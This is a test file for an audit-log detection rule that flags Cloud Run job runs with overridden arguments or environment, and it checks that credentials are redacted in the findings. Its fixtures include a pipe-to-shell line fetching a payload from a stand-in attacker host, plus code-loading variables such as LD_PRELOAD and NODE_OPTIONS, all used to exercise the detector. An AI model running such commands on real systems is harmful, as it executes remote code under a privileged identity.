// job-run-overrides: a Cloud Run job run (RunJob, a Data Access entry) that overrides its containers' arguments or
// environment runs the caller's choice under the job's runtime service account. From the synthetic job fixtures
// (no job entry is public; test/fixtures/synthetic-job-SOURCES.md) and variants of the run.
import { describe, expect, it } from 'vitest';
import { parseEntry } from '../../../functions/audit/normalize.js';
import { containerOverridesOf, OVERRIDE_ARG_MAX_LENGTH, OVERRIDE_ARGS_MAX, OVERRIDE_ENV_MAX } from '../../../functions/audit/job.js';
import { at, synthetic, variant, type Json } from '../../support/entries.js';
import { config, findingsLive, findingsOf } from '../../support/run.js';

const create = synthetic('job-v1-CreateJob-gcloud'); // runs as exporter@
const plainRun = synthetic('job-v2-RunJob-data-access'); // no overrides
const run = synthetic('job-v2-RunJob-overrides'); // args `-c "curl ... | sh"`, EXPORT_TARGET, by mallory@

/** The run with its `overrides` replaced. */
function runWith(overrides: Record<string, unknown> | undefined, entry: Json = run): Json {
  return variant(entry, (e) => {
    const request = e.protoPayload['request'] as Record<string, unknown>;
    if (overrides === undefined) delete request['overrides'];
    else request['overrides'] = overrides;
  });
}

/** The run as a v1 entry (namespaces.jobs.run: the same overrides, `timeoutSeconds`). */
const v1Run = variant(run, (e) => {
  e.protoPayload['methodName'] = 'google.cloud.run.v1.Jobs.RunJob';
  e.protoPayload['resourceName'] = 'namespaces/acme-prod/jobs/nightly-export';
  const request = e.protoPayload['request'] as Record<string, any>;
  request['name'] = 'namespaces/acme-prod/jobs/nightly-export';
  request['overrides'] = { containerOverrides: [{ name: 'exporter', args: ['--dump-all'] }], timeoutSeconds: 60 };
});

async function overrides(entries: readonly unknown[], cfg = config()) {
  return (await findingsOf(entries, cfg)).filter((f) => f.rule === 'job-run-overrides');
}

describe('job-run-overrides', () => {
  it.each([
    ['arguments and a variable, after the job was seen (v2)', [create, run], 'HIGH', { args: ['-c', 'curl -s https://attacker.example/stage2 | sh'], environmentVariables: ['EXPORT_TARGET'], runtimeServiceAccount: 'exporter@acme-prod.iam.gserviceaccount.com' }],
    ['arguments, the job never seen (its identity unknown)', [run], 'HIGH', { runtimeServiceAccount: null }],
    ['arguments cleared', [create, runWith({ containerOverrides: [{ clearArgs: true }] })], 'HIGH', { clearArgs: true }],
    ['environment variables only', [create, runWith({ containerOverrides: [{ env: [{ name: 'DEBUG', value: '1' }, { name: 'TARGET', value: 'x' }] }] })], 'MEDIUM', { environmentVariables: ['DEBUG', 'TARGET'] }],
    ['a variable that loads code (NODE_OPTIONS)', [create, runWith({ containerOverrides: [{ env: [{ name: 'NODE_OPTIONS', value: '--import=data:text/javascript,...' }] }] })], 'HIGH', { codeLoadingVariables: ['NODE_OPTIONS'] }],
    [
      'a variable that loads code past the names kept (LD_PRELOAD, 51st)',
      [create, runWith({ containerOverrides: [{ env: [...Array.from({ length: 50 }, (_, i) => ({ name: `V${i}`, value: '1' })), { name: 'LD_PRELOAD', value: '/tmp/x.so' }] }] })],
      'HIGH',
      { codeLoadingVariables: ['LD_PRELOAD'] },
    ],
    ['a v1 run (namespaces.jobs.run)', [create, v1Run], 'HIGH', { containers: ['exporter'], args: ['--dump-all'], timeout: '60s' }],
    [
      'a v1 run whose overrides are logged in the body gcloud wraps them in (runJobRequest)',
      [
        create,
        variant(v1Run, (e) => {
          const request = e.protoPayload['request'] as Record<string, unknown>;
          request['runJobRequest'] = { overrides: request['overrides'] };
          delete request['overrides'];
        }),
      ],
      'HIGH',
      { args: ['--dump-all'] },
    ],
  ])('fires on a run with %s', async (_name, entries, severity, evidence) => {
    const findings = await overrides(entries);
    expect(findings).toHaveLength(1);
    expect(findings[0]).toMatchObject({ severity, resourceType: 'job', service: 'nightly-export', evidence });
    expect(findings[0]!.summary).toContain('job acme-prod/nightly-export (us-central1)');
  });

  // A variable of the code-loading list is judged by its value too, as code-loading-env judges a deploy's: an
  // interpreter option variable that only tunes the runtime (a memory flag for a backfill) loads no code, and a run
  // that sets it is one with other environment (MEDIUM), not one that loads code (HIGH, which pages).
  it.each([
    ['NODE_OPTIONS with a memory flag', { name: 'NODE_OPTIONS', value: '--max-old-space-size=8192' }, 'MEDIUM', undefined],
    ['JAVA_TOOL_OPTIONS with heap settings', { name: 'JAVA_TOOL_OPTIONS', value: '-XX:MaxRAMPercentage=75 -Xss1m' }, 'MEDIUM', undefined],
    ['NODE_OPTIONS that requires a module', { name: 'NODE_OPTIONS', value: '--max-old-space-size=8192 --require /mnt/gcs/x.js' }, 'HIGH', ['NODE_OPTIONS']],
    ['JAVA_TOOL_OPTIONS with an agent', { name: 'JAVA_TOOL_OPTIONS', value: '-javaagent:/mnt/gcs/a.jar' }, 'HIGH', ['JAVA_TOOL_OPTIONS']],
    ['NODE_OPTIONS from a secret (its value unknown)', { name: 'NODE_OPTIONS', valueSource: { secretKeyRef: { secret: 'opts', version: 'latest' } } }, 'HIGH', ['NODE_OPTIONS']],
    ['LD_PRELOAD, whatever its value', { name: 'LD_PRELOAD', value: '/usr/lib/libjemalloc.so.2' }, 'HIGH', ['LD_PRELOAD']],
  ])('judges a run that sets %s by its value', async (_name, variable, severity, codeLoadingVariables) => {
    const [finding] = await overrides([create, runWith({ containerOverrides: [{ env: [variable] }] })]);
    expect(finding).toMatchObject({ severity, evidence: { environmentVariables: [variable.name] } });
    expect(finding!.evidence['codeLoadingVariables']).toEqual(codeLoadingVariables);
    if (severity === 'MEDIUM') expect(finding!.title).toBe('Job run with overridden environment');
  });

  // A configured severity replaces the default (HIGH, a run with arguments); the finding the rule lowers (MEDIUM,
  // environment only) keeps its own unless the configured one is lower: a team that turned the rule down to LOW
  // saw the runs with arguments (a shell script) at LOW and the runs with a variable at MEDIUM, above them.
  it.each([
    [undefined, ['HIGH', 'MEDIUM']],
    ['LOW', ['LOW', 'LOW']],
    ['MEDIUM', ['MEDIUM', 'MEDIUM']],
    ['CRITICAL', ['CRITICAL', 'MEDIUM']],
  ] as const)('a configured severity %s: a run with environment only never ranks above one with arguments', async (severity, expected) => {
    const cfg = config({ rules: { 'job-run-overrides': severity ? { severity } : {} } });
    const [withArgs] = await overrides([create, run], cfg);
    const [envOnly] = await overrides([create, runWith({ containerOverrides: [{ env: [{ name: 'DEBUG', value: '1' }] }] })], cfg);
    expect([withArgs?.severity, envOnly?.severity]).toEqual(expected);
  });

  it('fires in the live pipeline too, at once', async () => {
    expect(await findingsLive([create, run])).toEqual(expect.arrayContaining([expect.objectContaining({ rule: 'job-run-overrides', principal: 'mallory@acme.example' })]));
  });

  it.each([
    ['a run without overrides', [create, plainRun]],
    ['a run overriding the task count and timeout only', [create, runWith({ taskCount: 3, timeout: '60s' })]],
    ['a run with empty container overrides', [create, runWith({ containerOverrides: [{ name: 'exporter' }, {}] })]],
    ['a run that failed', [create, variant(run, (e) => void (e.protoPayload['status'] = { code: 7, message: 'Permission run.jobs.runWithOverrides denied' }))]],
    ['a validateOnly run', [create, variant(run, (e) => void ((e.protoPayload['request'] as Json)['validateOnly'] = true))]],
    ['the same run delivered twice', [create, run, run]],
  ])('ignores %s (or reports it once)', async (name, entries) => {
    expect(await overrides(entries)).toHaveLength(name.startsWith('the same') ? 1 : 0);
  });

  it('ignores a RunJob in the Admin Activity log (it is never logged there): no deploy either', async () => {
    const misfiled = variant(run, (e) => void (e['logName'] = 'projects/acme-prod/logs/cloudaudit.googleapis.com%2Factivity'));
    expect(parseEntry(misfiled)).toMatchObject({ kind: 'skipped', reason: 'cloud-run-job' });
  });

  it('ignores runs by an exempt caller or of an exempt job', async () => {
    expect(await overrides([create, run], config({ rules: { 'job-run-overrides': { exceptions: [{ principal: 'mallory@acme.example' }] } } }))).toEqual([]);
    expect(await overrides([create, run], config({ rules: { 'job-run-overrides': { exceptions: [{ service: 'acme-prod/nightly-*' }] } } }))).toEqual([]);
    expect(await overrides([create, run], config({ rules: { 'job-run-overrides': { enabled: false } } }))).toEqual([]);
  });

  it.each([
    // Only the credential: the rest of the argument is evidence of what ran, which a credential-looking string
    // anywhere in it (a comment at the end of a script) hid whole.
    ['a credential format', ['--key=AKIAABCDEFGHIJKLMNOP'], ['--key=[hidden: an AWS access key id]']],
    // The name rule must not cut into the marker the format rule left (`--token=[hidden] an AWS access key id]`).
    ['a credential format under a secret\'s name inside an argument', ['sh -c "run --api-token=AKIAABCDEFGHIJKLMNOP"'], ['sh -c "run --api-token=[hidden: an AWS access key id]"']],
    // A value under a secret's name that starts with a credential goes on past the credential's marker: the rest
    // (an AWS secret access key after its key id) is hidden too; a credential inside the value leaves no piece of
    // its marker behind (`DB_PASSWORD=[hidden] an AWS access key id]`).
    ['a secret by its name whose value starts with a credential', ['sh -c "AWS_SECRET=AKIAABCDEFGHIJKLMNOP:wJalrXUtnFEMIK7MDENGbPxRfiCYzEXAMPLEKEY ./sync"'], ['sh -c "AWS_SECRET=[hidden] ./sync"']],
    ['a secret by its name with a credential inside its value', ['cd /app && DB_PASSWORD=pw-AKIAABCDEFGHIJKLMNOP ./run'], ['cd /app && DB_PASSWORD=[hidden] ./run']],
    [
      'a credential format inside a command line, the command still shown',
      ['-c', 'curl -s https://attacker.example/stage2 | sh # AKIAABCDEFGHIJKLMNOP', 'git clone https://x-access-token:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/acme/ops && ./ops/run'],
      ['-c', 'curl -s https://attacker.example/stage2 | sh # [hidden: an AWS access key id]', 'git clone https://x-access-token:[hidden: a GitHub token]@github.com/acme/ops && ./ops/run'],
    ],
    ['a secret by its name (plaintext-secret-env globs)', ['--db-password=hunter2hunter2', 'DB_PASSWORD=s3cr3t-value-42', '--mode=full'], ['--db-password=[hidden]', 'DB_PASSWORD=[hidden]', '--mode=full']],
    ['a private key', ['-----BEGIN PRIVATE KEY-----\nMIIE...'], ['[hidden: a private key]']],
    ['a Slack webhook URL after a flag', [`--notify=https://hooks.slack.com/services/T0123ABCD/B0456EFGH/${'aB3'.repeat(8)}`], ['--notify=https://[hidden: a Slack webhook URL]']],
    ['a PGP private key block', ['--signing-key', '-----BEGIN PGP PRIVATE KEY BLOCK-----\n\nlQVYBGXaaaa...'], ['--signing-key', '[hidden: a private key]']],
    ['a password in a URL given alone', ['postgres://app:s3cr3t-pw@10.0.0.5:5432/shop'], ['postgres://app:[hidden: a password in a URL]@10.0.0.5:5432/shop']],
    // The usual way to pass a URL: after a flag or a variable name whose name says nothing of a secret.
    ['a password in a URL after a flag', ['--database-url=postgres://app:s3cr3t-pw@10.0.0.5:5432/shop'], ['--database-url=postgres://app:[hidden: a password in a URL]@10.0.0.5:5432/shop']],
    ['a password with a raw @ in a URL', ['--dsn=mysql://app:p@ss-s3cr3t-pw@db:3306/shop'], ['--dsn=mysql://app:[hidden: a password in a URL]@db:3306/shop']],
    ['a password in a URL as NAME=VALUE', ['DATABASE_URL=redis://:s3cr3t-pw@10.0.0.7:6379/0'], ['DATABASE_URL=redis://:[hidden: a password in a URL]@10.0.0.7:6379/0']],
    // A shell's command line (`sh -c '...'`, as the fixture's run passes it): the secret is one word of the argument.
    [
      'a secret by its name inside a command line',
      ['-c', 'PGPASSWORD=hunter2hunter2 psql -h db -U app -c "select 1"', 'mysql -u root --password=s3cr3t-value-42 shop < dump.sql'],
      // An argument that starts with the assignment hides all after its `=`, as before (the value may hold spaces).
      ['-c', 'PGPASSWORD=[hidden]', 'mysql -u root --password=[hidden] shop < dump.sql'],
    ],
    ['a secret by its name after another assignment', ['PGUSER=app PGPASSWORD=hunter2hunter2 psql -h db'], ['PGUSER=app PGPASSWORD=[hidden] psql -h db']],
    // A job that deploys with gcloud: variables as a list after a flag's `=` (`--set-env-vars=A=1,B=2`).
    [
      'a secret by its name in a list of variables after a flag',
      ['run', 'deploy', 'api', '--set-env-vars=LOG_LEVEL=debug,DB_PASSWORD=hunter2hunter2', '--update-env-vars=API_TOKEN=s3cr3t-value-42'],
      ['run', 'deploy', 'api', '--set-env-vars=LOG_LEVEL=debug,DB_PASSWORD=[hidden]', '--update-env-vars=API_TOKEN=[hidden]'],
    ],
    // A token in a URL's fragment (OAuth's implicit grant: `#access_token=...`), or an assignment in a shell's
    // command substitution (`` `...` ``) or a brace group.
    [
      'a secret by its name in a URL fragment, after a backtick or a brace',
      ['-c', 'curl -s "https://app.example.com/cb#access_token=s3cr3t-value-42&state=x"', 'echo `DB_PASSWORD=hunter2hunter2 ./dump`', '{DB_PASSWORD=hunter2hunter2; ./run; }'],
      ['-c', 'curl -s "https://app.example.com/cb#access_token=[hidden]', 'echo `DB_PASSWORD=[hidden] ./dump`', '{DB_PASSWORD=[hidden] ./run; }'],
    ],
    // A key in a URL's query (`curl "https://.../export?api_key=..."`), or a command after `;` or `&&` with no space.
    [
      'a secret by its name in a query string or after a separator',
      ['-c', 'curl -s "https://api.example.com/v1/export?format=csv&api_key=s3cr3t-value-42"', 'cd /app;DB_PASSWORD=hunter2hunter2 ./run'],
      ['-c', 'curl -s "https://api.example.com/v1/export?format=csv&api_key=[hidden]', 'cd /app;DB_PASSWORD=[hidden] ./run'],
    ],
    ['a quoted secret by its name inside a command line', ['-c', `export API_TOKEN='s3cr3t-value-42 x' && ./run`], ['-c', 'export API_TOKEN=[hidden] && ./run']],
    // A secret passed as the argument after its flag (`--db-password`, `VALUE`: how most CLIs and gcloud's
    // `--args=--db-password,VALUE` pass it), or as the word after it in a command line: the value is hidden, the flag
    // and the rest stay evidence. A flag after the flag is no value (a boolean `--api-token --verbose`), shown.
    [
      'a secret by its name as the argument after its flag',
      ['--db-password', 'hunter2hunter2', '--mode', 'full', '--api-token', '--verbose', '-secret', 's3cr3t-value-42'],
      ['--db-password', '[hidden]', '--mode', 'full', '--api-token', '--verbose', '-secret', '[hidden]'],
    ],
    [
      'a secret by its name as the word after its flag in a command line',
      ['-c', 'consul kv get -token hunter2hunter2 app/config', 'backup --api-token "s3cr3t-value-42 x" --to gs://b', 'sync --secret\ts3cr3t-value-42'],
      ['-c', 'consul kv get -token [hidden] app/config', 'backup --api-token [hidden] --to gs://b', 'sync --secret\t[hidden]'],
    ],
    // A shell reads on past a backslash that ends a line (a script that wraps its long command) and drops the quotes
    // around a flag; a word that starts with one `-` after a secret's flag is its value, as the argument after the flag
    // is (above): the secret is hidden.
    [
      'a secret by its name after its flag across a line break, quoted, or starting with a dash',
      ['-c', 'mysql -u app --password \\\n  hunter2hunter2 shop', 'mysql "--password" hunter2hunter2 shop', 'consul kv get -token -s3cr3t-value-42 app/config'],
      ['-c', 'mysql -u app --password \\\n  [hidden] shop', 'mysql "--password" [hidden] shop', 'consul kv get -token [hidden] app/config'],
    ],
    // The same line break inside an assignment's value: the shell joins the two lines into one word.
    ['a secret by its name continued on the next line', ['-c', 'cd /app && PGPASSWORD=\\\nhunter2hunter2 psql -h db'], ['-c', 'cd /app && PGPASSWORD=[hidden] psql -h db']],
    // A negated switch (`--no-password`: psql's and pg_dump's, so a cron job never waits at a prompt) takes no value:
    // what follows is evidence, shown.
    [
      'no value after a negated switch',
      ['pg_dump', '--no-password', '-h', 'db.internal', 'shop', 'pg_dump --no-password -h db.internal -U app shop > /tmp/dump.sql'],
      ['pg_dump', '--no-password', '-h', 'db.internal', 'shop', 'pg_dump --no-password -h db.internal -U app shop > /tmp/dump.sql'],
    ],
    // A switch that reads the secret from standard input (`docker login --password-stdin`, `gh auth login
    // --with-token`-style `--token-stdin`) takes no value either: the registry after it is evidence.
    [
      'no value after a switch that reads the secret from standard input',
      ['login', '--password-stdin', 'registry.example.com', '-c', 'cat /run/secrets/pw | docker login --password-stdin -u ci europe-docker.pkg.dev'],
      ['login', '--password-stdin', 'registry.example.com', '-c', 'cat /run/secrets/pw | docker login --password-stdin -u ci europe-docker.pkg.dev'],
    ],
    // A flag that names a file holding the secret (`--password-file /run/secrets/db`, as `DB_PASSWORD_FILE`) shows it.
    ['a file a secret is in, after its flag', ['--password-file', '/run/secrets/db', 'app --token-path /var/run/token'], ['--password-file', '/run/secrets/db', 'app --token-path /var/run/token']],
  ])('hides %s in the arguments, never a finding\'s text', async (_name, args, shown) => {
    const [finding] = await overrides([create, runWith({ containerOverrides: [{ args }] })]);
    expect(finding!.evidence['args']).toEqual(shown);
    for (const secret of ['AKIAABCDEFGHIJKLMNOP', 'wJalrXUtnFEMI', 'hunter2hunter2', 's3cr3t-value-42', 'MIIE', 's3cr3t-pw', 'lQVYBGX', 'ghp_abc']) expect(JSON.stringify(finding)).not.toContain(secret);
  });

  // A bearer credential has no NAME=VALUE form: a request header (`curl -H 'Authorization: Bearer ...'`), Google's OAuth
  // access token (what `gcloud auth print-access-token` prints, ya29.…), a JSON Web Token (an identity token). Hidden
  // by its form; the header's name and the rest of the command stay evidence.
  const ACCESS_TOKEN = `ya29.${'a0AfB_byC7'.repeat(5)}`;
  const JWT = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c';
  it.each([
    ['an Authorization header with a bearer token', ['-c', 'curl -H "Authorization: Bearer opaque-T0ken-77abc" https://api.example.com/run'], ['-c', 'curl -H "Authorization: Bearer [hidden: an authorization header]" https://api.example.com/run'], 'opaque-T0ken-77abc'],
    ['an Authorization header with basic credentials', ['--header=authorization: basic YWxhZGRpbjpvcGVuc2VzYW1l'], ['--header=authorization: basic [hidden: an authorization header]'], 'YWxhZGRpbjpvcGVuc2VzYW1l'],
    // Every scheme carries credentials after it (RFC 9110 credentials = auth-scheme [ token68 / auth-params ]), not only
    // these four: Elastic's ApiKey, Dynatrace's Api-Token, Splunk HEC's Splunk.
    ['an Authorization header with an Elastic API key', ['-c', 'curl -H "Authorization: ApiKey VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw==" https://es.example.com/_bulk'], ['-c', 'curl -H "Authorization: ApiKey [hidden: an authorization header]" https://es.example.com/_bulk'], 'VnVhQ2ZHY0JDZGJrUW0tZTVhT3g6dWkybHAyYXhUTm1zeWFrdzl0dk5udw'],
    ['an Authorization header with a Dynatrace API token', ['--header=Authorization: Api-Token dt0c01.ST2EY72KQINMH574WMNVI7YN.G3DFPBEJYMODIDAEX454M7YWBUVEFOWKPRVMWFASS64NFH52PX6BNDVFFM572RZM'], ['--header=Authorization: Api-Token [hidden: an authorization header]'], 'G3DFPBEJYMODIDAEX454M7YWBUVEFOWKPRVMWFASS64NFH52PX6BNDVFFM572RZM'],
    ['an Authorization header with a Splunk HEC token', ['-H', 'Authorization: Splunk 12345678-1234-1234-1234-1234567890AB'], ['-H', 'Authorization: Splunk [hidden: an authorization header]'], '1234567890AB'],
    ['a Google OAuth access token', ['--access-token', ACCESS_TOKEN], ['--access-token', '[hidden: a Google OAuth access token]'], ACCESS_TOKEN.slice(5)],
    ['a JSON Web Token', ['--id-token', JWT], ['--id-token', '[hidden: a JSON Web Token]'], 'SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV'],
  ])('hides %s in the arguments by its form', async (_name, args, shown, secret) => {
    const [finding] = await overrides([create, runWith({ containerOverrides: [{ args }] })]);
    expect(finding!.evidence['args']).toEqual(shown);
    expect(JSON.stringify(finding)).not.toContain(secret);
  });

  // Hiding a secret in a run's arguments must not hang on another rule being on: a team that turns
  // plaintext-secret-env off (its own findings too noisy) still gets the run's arguments sent to every sink.
  it.each([
    ['on', config()],
    ['off', config({ rules: { 'plaintext-secret-env': { enabled: false } } })],
  ])('hides a secret by its name whether plaintext-secret-env is %s', async (_state, cfg) => {
    const [finding] = await overrides([create, runWith({ containerOverrides: [{ args: ['--db-password=hunter2hunter2', 'API_TOKEN=s3cr3t-value-42'] }] })], cfg);
    expect(finding!.evidence['args']).toEqual(['--db-password=[hidden]', 'API_TOKEN=[hidden]']);
    for (const secret of ['hunter2hunter2', 's3cr3t-value-42']) expect(JSON.stringify(finding)).not.toContain(secret);
  });

  it('two runs are two findings', async () => {
    const again = at(run, '2025-03-10T11:05:00Z');
    expect(new Set((await overrides([create, run, again])).map((f) => f.id)).size).toBe(2);
  });

  it('keeps the arguments bounded and never a variable value', async () => {
    const many = Array.from({ length: OVERRIDE_ARGS_MAX + 5 }, (_, i) => `${i}:${'x'.repeat(OVERRIDE_ARG_MAX_LENGTH * 2)}`);
    const [finding] = await overrides([create, runWith({ containerOverrides: [{ args: many, env: [{ name: 'TOKEN', value: 'sk_live_not_a_real_secret' }] }] })]);
    const args = finding!.evidence['args'] as readonly string[];
    expect(args).toHaveLength(OVERRIDE_ARGS_MAX + 1);
    expect(args.at(-1)).toBe('… 5 more');
    expect(args.every((a) => a.length <= OVERRIDE_ARG_MAX_LENGTH)).toBe(true);
    expect(JSON.stringify(finding)).not.toContain('sk_live_not_a_real_secret');
  });

  // The arguments are the caller's: an entry (up to 512 KiB) can carry a hundred thousand. Only those kept are read for
  // secrets (each needs only the one before it): reading all of them took detect a second and a half per entry (how
  // long it takes is the benchmark's to say; here, what is kept).
  it('keeps the first arguments of a run with 125,000, secrets hidden among them', () => {
    const names = { namePatterns: ['*PASSWORD*', '*TOKEN*'], allowNames: [] };
    const args = Array.from({ length: 125_000 }, (_, i) => (i % 2 === 0 ? '--token' : 'a'));
    const [container] = containerOverridesOf({ containerOverrides: [{ args }] }, names);
    expect(container!.args).toEqual([...Array.from({ length: OVERRIDE_ARGS_MAX / 2 }, () => ['--token', '[hidden]']).flat(), `… ${125_000 - OVERRIDE_ARGS_MAX} more`]);
  });

  // RunJob is a long-running operation: its completion entry (operation.last) is the same run logged again. Were it
  // to carry the request, it must not be a second run.
  const completion = variant(at(run, '2025-03-10T11:20:00Z', 'syn-job-v2-run-overrides-last'), (e) => {
    e['operation'] = { id: 'projects/acme-prod/locations/us-central1/operations/6a7b8c9d-0e1f-4a2b-8c3d-4e5f6a7b8c9d', producer: 'run.googleapis.com', last: true };
  });
  it.each([
    ['the start entry alone', [create, run], 1],
    ['the start and completion entries of one run', [create, run, completion], 1],
    ['the completion entry arriving first', [create, completion, run], 1],
  ])('reports one run once: %s', async (_name, entries, count) => {
    expect(await overrides(entries)).toHaveLength(count);
  });

  // Variable names are capped like arguments: what is left out must be said, or a name past the cap (NODE_OPTIONS
  // after 50 harmless ones) goes unseen behind a list that looks complete.
  const names = (n: number) => [...Array.from({ length: n - 1 }, (_, i) => `HARMLESS_${i}`), 'NODE_OPTIONS'];
  it.each([
    ['at the cap', OVERRIDE_ENV_MAX, [...names(OVERRIDE_ENV_MAX)]],
    ['past the cap', OVERRIDE_ENV_MAX + 3, [...names(OVERRIDE_ENV_MAX + 3).slice(0, OVERRIDE_ENV_MAX), '… 3 more']],
  ])('lists the variable names %s, saying how many are left out', async (_name, count, expected) => {
    const env = names(count).map((name) => ({ name, value: 'x' }));
    const [finding] = await overrides([create, runWith({ containerOverrides: [{ env }] })]);
    expect(finding!.evidence['environmentVariables']).toEqual(expected);
  });
});
